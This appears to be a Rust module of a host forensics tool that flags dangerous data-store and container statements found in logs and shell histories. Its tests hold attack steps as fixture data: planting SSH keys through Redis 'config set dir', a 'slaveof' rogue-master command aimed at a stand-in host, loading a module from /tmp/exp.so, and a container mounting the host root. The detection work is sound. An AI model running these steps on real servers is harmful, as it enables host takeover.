//! Statements that lead out of a data store, told apart by store, account, address and text.

use std::collections::HashMap;
use std::sync::Arc;

use stanch_words::{Event, EventKind, Gap, GapKind, Row, Seen};

use super::kept::{Lines, as_json, seconds, shortened};
use super::{Fold, FoldKind, Source};
use crate::Host;
use crate::logs::statement;
use crate::tables::data_store_uses::{SPEC, col};

pub(super) static FOLD: FoldKind = FoldKind {
    takes: &[
        EventKind::DataQuery,
        EventKind::ContainerChange,
        EventKind::ServiceStart,
        EventKind::ProcessStart,
    ],
    new: || Box::new(DataStoreUses::default()),
};

/// How many different statements are kept of each danger, and how much of one.
const MOST: usize = 500;
const LONGEST: usize = 500;

/// Clients that take a statement as an argument.
const CLIENTS: [&str; 7] =
    ["redis-cli", "valkey-cli", "psql", "mysql", "mariadb", "mongo", "mongosh"];

#[derive(Default)]
struct DataStoreUses {
    uses: HashMap<Key, Uses>,
    by_danger: HashMap<Box<str>, usize>,
    left_out: u64,
}

/// One thing that was said by one account from one place.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
struct Key {
    store: Box<str>,
    danger: Box<str>,
    witness: &'static str,
    user: Box<str>,
    source_ip: Box<str>,
    command: Box<str>,
}

#[derive(Default)]
struct Uses {
    database: Box<str>,
    path: Box<str>,
    count: u64,
    failed: u64,
    first: Option<i64>,
    last: Option<i64>,
    lines: Lines,
}

impl Fold for DataStoreUses {
    fn event(&mut self, event: &Event<'_>, source: &Source) {
        match event.kind {
            EventKind::ProcessStart => {
                if let Some(danger) = client(&event.command) {
                    self.take(event, source, danger);
                }
            }
            _ => {
                let danger = event.text("danger");
                if !danger.is_empty() {
                    self.take(event, source, danger);
                }
            }
        }
    }

    fn end(self: Box<Self>, _host: &Host) -> Vec<(&'static str, Seen)> {
        let mut seen = Seen::default();
        let mut all: Vec<_> = self.uses.into_iter().collect();
        all.sort_by(|(a, _), (b, _)| a.cmp(b));
        for (key, uses) in all {
            seen.push(row(&key, &uses));
        }
        if self.left_out > 0 {
            let detail =
                format!("more than {MOST} statements of one kind; {} left out", self.left_out);
            seen.gap(Gap::new(SPEC.name, GapKind::Truncated, detail));
        }
        vec![(SPEC.name, seen)]
    }
}

impl DataStoreUses {
    fn take(&mut self, event: &Event<'_>, source: &Source, danger: &str) {
        let said = if event.command.is_empty() { &event.message } else { &event.command };
        let program = match event.kind {
            EventKind::ProcessStart => client_name(&event.command).unwrap_or_default(),
            _ => &event.program,
        };
        let user = match (&source.owner, event.user.as_ref()) {
            (Some(owner), "") => owner,
            (_, user) => user,
        };
        let key = Key {
            store: store(program).into(),
            danger: danger.into(),
            witness: source.witness.name(),
            user: shortened(user, 128).into(),
            source_ip: shortened(&event.source_ip, 128).into(),
            command: shortened(said.trim(), LONGEST).into(),
        };
        if !self.uses.contains_key(&key) {
            let kept = self.by_danger.entry(danger.into()).or_default();
            if *kept >= MOST {
                self.left_out = self.left_out.saturating_add(1);
                return;
            }
            *kept = kept.saturating_add(1);
        }
        let uses = self.uses.entry(key).or_default();
        if uses.count == 0 {
            uses.database = shortened(event.text("database"), 128).into();
            uses.path = shortened(&event.path, LONGEST).into();
        }
        uses.count = uses.count.saturating_add(1);
        let failed = event.text("result") == "failure";
        uses.failed = uses.failed.saturating_add(u64::from(failed));
        let time = seconds(event);
        uses.first = [uses.first, time].into_iter().flatten().min();
        uses.last = uses.last.max(time);
        uses.lines.take(event, || Arc::from(event.place.file));
    }
}

/// Returns the client that a command starts, if it is one of a data store.
fn client_name(command: &str) -> Option<&str> {
    let mut words = command.split_ascii_whitespace();
    let first = words.find(|word| !matches!(*word, "sudo" | "exec") && !word.contains('='))?;
    let name = first.rsplit('/').next()?;
    CLIENTS.contains(&name).then_some(name)
}

/// Returns the danger of a statement that is given to a client on its command line.
fn client(command: &str) -> Option<&'static str> {
    // Nearly all commands are others: looked at before anything is copied.
    client_name(command)?;
    statement::danger(command)
}

fn store(program: &str) -> &str {
    let starts = [
        ("redis", "redis"),
        ("valkey", "redis"),
        ("keydb", "redis"),
        ("mysql", "mysql"),
        ("mariadb", "mysql"),
        ("postgres", "postgresql"),
        ("psql", "postgresql"),
        ("mongo", "mongodb"),
        ("docker", "docker"),
        ("containerd", "docker"),
    ];
    let known = starts.into_iter().find(|(start, _)| program.starts_with(start));
    known.map_or(program, |(_, store)| store)
}

fn row(key: &Key, uses: &Uses) -> Row {
    let mut row = SPEC.row();
    row.put(col::store, &*key.store)
        .put(col::danger, &*key.danger)
        .put(col::command, &*key.command)
        .put(col::user, &*key.user)
        .put(col::source_ip, &*key.source_ip)
        .put(col::database, &*uses.database)
        .put(col::path, &*uses.path)
        .put(col::failed, i64::from(uses.failed == uses.count))
        .put(col::witness, key.witness)
        .put(col::count, uses.count)
        .put(col::first_time, uses.first)
        .put(col::last_time, uses.last)
        .put(col::lines, as_json(uses.lines.kept()));
    if let Some(told) = uses.lines.kept().first() {
        row.put(col::file, &*told.source)
            .put(col::line, told.line)
            .put(col::excerpt, &*told.excerpt);
    }
    row
}

#[cfg(test)]
mod tests {
    use stanch_machine::Pretend;

    use super::*;
    use crate::tables;

    fn rows(machine: Pretend) -> Vec<[String; 5]> {
        let machine = machine.file(
            "/etc/passwd",
            "root:x:0:0::/root:/bin/bash\neve:x:1000:1000::/home/eve:/bin/bash\n",
        );
        let columns = [col::store, col::danger, col::user, col::source_ip, col::command];
        tables::shown("data_store_uses", machine, columns)
    }

    #[test]
    fn a_key_planted_through_redis_and_a_rogue_master() {
        let machine = Pretend::new()
            .file("/root/.rediscli_history", "get a\nconfig set dir /root/.ssh\n")
            .file("/home/eve/.bash_history", "ls\nredis-cli -h 10.0.0.9 slaveof 203.0.113.9 6666\n")
            .file(
                "/var/log/redis/redis-server.log",
                "7:M 02 Nov 2026 08:12:44.123 * Ready to accept connections\n\
                 7:S 02 Nov 2026 08:12:46.123 * Module 'system' loaded from /tmp/exp.so\n",
            );
        let row = |cells: [&str; 5]| cells.map(str::to_owned);
        assert_eq!(
            rows(machine),
            [
                row(["redis", "file-write", "root", "", "config set dir /root/.ssh"]),
                row(["redis", "library", "", "", "Module 'system' loaded from /tmp/exp.so"]),
                row([
                    "redis",
                    "replication",
                    "eve",
                    "",
                    "redis-cli -h 10.0.0.9 slaveof 203.0.113.9 6666"
                ]),
            ]
        );
    }

    #[test]
    fn a_container_that_is_given_the_whole_host() {
        let log = "time=\"2026-11-02T08:12:44.1Z\" level=debug msg=\"Calling POST /v1.41/containers/create?name=x\"\n\
            time=\"2026-11-02T08:12:44.2Z\" level=debug msg=\"form data: {\\\"Image\\\":\\\"alpine\\\",\\\"HostConfig\\\":{\\\"Binds\\\":[\\\"/:/mnt\\\"]}}\"\n\
            time=\"2026-11-02T08:12:45.2Z\" level=debug msg=\"form data: {\\\"Image\\\":\\\"web\\\",\\\"HostConfig\\\":{\\\"Binds\\\":[\\\"/srv:/srv\\\"],\\\"Privileged\\\":false}}\"\n";
        let rows = rows(Pretend::new().file("/var/log/docker.log", log));
        assert_eq!(rows.len(), 1, "{rows:?}");
        assert_eq!(rows[0][..2], ["docker", "host-root"]);
    }

    #[test]
    fn ordinary_statements_leave_nothing() {
        let machine = Pretend::new()
            .file("/root/.psql_history", "select 1;\n\\d users\n")
            .file("/home/eve/.bash_history", "mysql -e 'select 1'\ngrep slaveof notes\n");
        assert_eq!(rows(machine), Vec::<[String; 5]>::new());
    }
}
